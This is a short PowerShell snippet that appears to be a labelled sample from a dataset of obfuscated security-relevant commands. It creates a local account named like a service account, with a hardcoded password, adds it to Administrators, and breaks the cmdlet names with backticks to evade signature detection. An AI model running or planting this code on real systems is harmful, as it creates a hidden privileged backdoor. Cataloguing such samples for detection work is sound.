# description: Creates an admin account with backtick-broken cmdlet names.
# family: security
# obfuscated: yes
$pw = ConvertTo-SecureString 'Spring2024!Ops' -AsPlainText -Force
Ne`w-`Lo`calUser -Name 'svc_sql2' -Password $pw
Add-`Local`Group`Member -Group Administrators -Member 'svc_sql2'
